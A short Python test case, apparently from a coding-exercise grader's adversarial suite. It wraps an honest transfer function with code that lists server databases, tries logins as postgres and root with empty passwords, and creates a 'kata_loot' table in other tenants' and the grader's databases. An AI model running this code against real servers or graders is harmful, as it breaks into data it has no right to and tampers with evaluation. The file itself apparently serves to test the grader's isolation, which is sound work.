# Tries: enters the databases of the server, of others and of the grader.
# On: transfer
# Says: \d+ commits, expected exactly 1
# Backends: each

import sqlalchemy
from sqlalchemy import text

honest = transfer


def transfer(engine, source, target, amount):
    names = ["postgres", "template1", "mysql", "information_schema", "performance_schema", "/dev/shm/kata_loot.db", "/tmp/kata_loot.db"]
    try:
        with engine.connect() as connection:
            listed = {"postgresql": "SELECT datname FROM pg_database", "mysql": "SHOW DATABASES"}.get(engine.dialect.name)
            if listed:
                names += connection.execute(text(listed)).scalars()
    except Exception:
        pass
    for name in names:
        for change in ({"database": name}, {"database": name, "username": "postgres", "password": ""}, {"database": name, "username": "root", "password": ""}):
            if engine.dialect.name == "sqlite" and len(change) > 1 or name == engine.url.database:
                continue
            try:
                with sqlalchemy.create_engine(engine.url.set(**change)).begin() as connection:
                    connection.execute(text("CREATE TABLE kata_loot (a INTEGER)"))
            except Exception:
                pass
    honest(engine, source, target, amount)
